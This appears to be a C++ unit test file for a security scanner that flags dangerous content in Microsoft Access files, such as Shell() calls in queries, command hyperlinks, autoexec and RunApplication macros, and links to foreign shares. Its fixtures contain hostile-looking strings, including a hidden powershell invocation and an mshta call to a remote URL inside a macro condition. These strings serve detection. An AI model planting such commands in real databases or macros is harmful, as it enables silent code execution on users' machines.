#include "scanner/office/access_macros.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <set>

#include "scanner/office/access_testing.h"
#include "tests/fixtures/le.h"
#include "tests/fixtures/mutate.h"

namespace sekisho::scanner::office {
namespace {

using fixtures::AccessFileIn;
using fixtures::AccessTableIn;
using fixtures::AccessType;
using Opened = OpenedAccess;

struct Judged {
    std::string name;
    AccessFileIn file;
    std::string ids;
};
std::vector<fixtures::CfbNode> script(const std::string& blob) {
    return {
        fixtures::cfb_storage("Scripts", {fixtures::cfb_storage("0", {fixtures::cfb_stream("Blob", blob)})})};
}
std::vector<fixtures::CfbNode> form(const std::string& blob) {
    return {
        fixtures::cfb_storage("Forms", {fixtures::cfb_storage("0", {fixtures::cfb_stream("Blob", blob)})})};
}
std::string fields(const std::vector<std::string>& texts) {
    std::string out("\1\0\7\0", 4);
    for (const std::string& text : texts)
        out += fixtures::utf16le(text) + std::string(6, '\0');
    return out;
}

void judge(const std::vector<Judged>& cases) {
    for (const Judged& one : cases) {
        Opened opened(fixtures::write_access(one.file));
        EXPECT_EQ(opened.ids(), one.ids) << one.name << " " << opened.evidence("office.access.partly");
        for (const model::Finding& finding : opened.extraction.findings().all())
            EXPECT_EQ(finding.evidence.find("secret"), std::string::npos) << one.name;
    }
}

TEST(AccessJudged, TablesQueriesAndLinks) {
    const auto cell = [](std::string table, bool hyperlink, std::string text) {
        return std::vector<AccessTableIn>{
            {std::move(table), {{"Expression", AccessType::memo, hyperlink}}, {{std::move(text)}}}};
    };
    const std::string run = "powershell.exe -w hidden -c exit";
    const std::vector<Judged> cases{
        {"query",
         {.tables = cell("MSysQueries", false, "SELECT Shell(\"calc\") FROM Orders")},
         "office.access.query"},
        {"query_honest", {.tables = cell("MSysQueries", false, "SELECT * FROM Shelling")}, ""},
        {"memo_about_a_shell", {.tables = cell("Notes", false, run)}, ""},
        {"hyperlink", {.tables = cell("Links", true, "Open#" + run + "#")}, "office.link.command"},
        {"hyperlink_honest", {.tables = cell("Links", true, "Site#https://www.example.com/#")}, ""},
        {"linked_local", {.objects = {{"T", 6, {}, "C:\\Data\\back.mdb"}}}, ""},
        {"linked_in_the_house",
         {.objects = {{"T", 6, {}, "\\\\srv01\\data\\back.mdb"}}},
         "office.access.linked"},
        {"linked_by_odbc",
         {.objects = {{"T", 4, "ODBC;DSN=erp;UID=a;PWD=secret;SERVER=srv01", {}}}},
         "office.access.linked"},
        {"linked_to_a_stranger",
         {.objects = {{"T", 6, {}, "\\\\192.0.2.7\\s\\a.mdb"}}},
         "office.access.linked.foreign"},
        {"connected_to_a_stranger",
         {.objects = {{"T", 6, "Text;DATABASE=\\\\192.0.2.7\\s", {}}}},
         "office.access.linked.foreign"},
    };
    judge(cases);
}

using Rows = std::vector<fixtures::AccessMacroRowIn>;

TEST(AccessJudged, Macros) {
    const auto macro = [](const Rows& rows) { return script(fixtures::access_macro(rows)); };
    const std::string run = "powershell.exe -w hidden -c exit";
    const auto xml = [](const std::string& command) {
        return "<?xml version=\"1.0\"?><UserInterfaceMacro><Statements><Comment>" + std::string(150, 'c') +
               "</Comment><Action Name=\"RunApplication\"><Argument Name=\"Command\">" + command +
               "</Argument></Action></Statements></UserInterfaceMacro>";
    };
    const std::string both = "office.access.command office.access.exec";
    judge({
        {"named", {.objects = {{"Backup", -32'766}}}, "office.access.macro"},
        {"autoexec", {.objects = {{"autoexec", -32'766}}}, "office.access.macro office.access.startup"},
        {"form_of_that_name", {.objects = {{"AutoExec", -32'768}}}, ""},
        {"form_at_the_start",
         {.tables = {{"MSysDb", {{"LvProp", AccessType::ole}}, {{fields({"AppTitle", "StartUpForm"})}}}}},
         "office.access.startup"},
        {"opens_a_form", {.storage = macro({{.action = 23, .arguments = {"Customers"}}})}, ""},
        {"message_about_a_shell", {.storage = macro({{.action = 22, .arguments = {run}}})}, ""},
        {"comment_about_a_shell", {.storage = macro({{.comment = run}})}, ""},
        {"runs_a_program",
         {.storage = macro({{}, {.action = 32, .arguments = {"C:\\Tools\\report.exe /all"}}})},
         "office.access.exec"},
        {"runs_a_shell", {.storage = macro({{.action = 32, .arguments = {run}}})}, both},
        {"runs_a_shell_in_japanese",
         {.storage = macro({{.action = 32, .arguments = {"cmd /c \u8ACB\u6C42\u66F8.bat"}}})},
         both},
        {"calls_a_function", {.storage = macro({{.action = 33, .arguments = {"=Main()"}}})}, ""},
        {"calls_shell",
         {.storage = macro({{.action = 33, .arguments = {"=Shell(\"calc\")"}}})},
         "office.access.exec"},
        {"in_a_condition",
         {.storage = macro({{.action = 5, .condition = "Shell(\"mshta http://example.invalid\")>0"}})},
         both},
        {"runs_sql",
         {.storage = macro({{.action = 35, .arguments = {"SELECT Shell(\"calc\")"}}})},
         "office.access.exec office.access.query"},
        {"in_xml", {.storage = macro(fixtures::access_macro_xml(xml(run)))}, both},
        {"in_xml_honest",
         {.storage = macro(fixtures::access_macro_xml(xml("report.exe")))},
         "office.access.exec"},
        {"no_macro_but_strings", {.storage = script(fields({"RunApp", "report.exe"}))}, "office.access.exec"},
        {"strings_of_a_shell", {.storage = script("x" + fields({run}))}, both},
        {"form", {.storage = form(fields({"Orders of the month", "=Shell(\"calc\")"}))}, ""},
        {"form_with_a_command", {.storage = form(fields({run}))}, both},
        {"form_with_a_macro",
         {.storage = form("head" +
                          fixtures::access_embedded_macro(
                              fixtures::access_macro({{.action = 32, .arguments = {"report.exe"}}})) +
                          "tail")},
         "office.access.exec"},
        {"macro_of_access_97",
         {.version = 0,
          .objects = {{"M", -32'766, "", "",
                       fixtures::access_macro({{.action = 32, .arguments = {run}}}, true)}}},
         both + " office.access.macro"},
    });
}

// Sheets of noise, and cut ones: rows end, and none reads beyond.
TEST(AccessMacroGrid, DamageIsBounded) {
    const Rows first{{.action = 32, .arguments = {"a.exe"}, .condition = "x", .comment = "y"}};
    Rows both = first;
    both.push_back({.action = 23, .arguments = {"F", "0"}});
    const std::string sheet = fixtures::access_macro(both);
    const AccessMacroText text{.charset = "windows-1252"};
    std::size_t rows = 0;
    const auto count = [&](const AccessMacroRow&) { ++rows; };
    Budget budget({}, 1u << 20);
    EXPECT_TRUE(read_access_macro(base::as_bytes(sheet), text, budget, count));
    EXPECT_EQ(rows, 2U);
    // It can end between rows alone, or without the two zeros behind one.
    const std::size_t one_row = fixtures::access_macro(first).size();
    const std::set<std::size_t> ends{fixtures::access_macro({}).size(), one_row - 2, one_row,
                                     sheet.size() - 2};
    for (std::size_t size = 0; size < sheet.size(); ++size) {
        const bool whole = read_access_macro(base::as_bytes(sheet).first(size), text, budget, count);
        EXPECT_EQ(whole, ends.contains(size)) << size;
    }
    for (std::uint32_t seed = 0; seed < 2'000; ++seed) {
        const std::string damaged = fixtures::mutate(sheet + sheet, seed);
        rows = 0;
        (void)read_access_macro(base::as_bytes(damaged), text, budget, count);
        const std::string form = fixtures::access_embedded_macro(damaged);
        read_embedded_macros(base::as_bytes(form), text, budget, count);
        EXPECT_LE(rows, 2 * damaged.size() / 34) << seed;
    }
}

TEST(AccessStrings, RunsOfTextInNoise) {
    const std::string noise("\x01\x80\x02\x03", 4);
    const std::string bytes = noise + "plain text" + noise + fixtures::utf16le("wide text") + noise +
                              fixtures::utf16le("\u5E33\u7968 \u306E\u5370\u5237") + noise + "abcd" + noise;
    std::vector<std::string> found;
    access_strings(base::as_bytes(bytes), [&](const std::string& text) { found.push_back(text); });
    const auto has = [&](std::string_view text) {
        return std::ranges::any_of(found, [&](const std::string& one) { return one.find(text) != one.npos; });
    };
    EXPECT_TRUE(has("plain text"));
    EXPECT_TRUE(has("wide text"));
    EXPECT_TRUE(has("\u306E\u5370\u5237"));
    EXPECT_FALSE(has("abcd"));
}

}  // namespace
}  // namespace sekisho::scanner::office
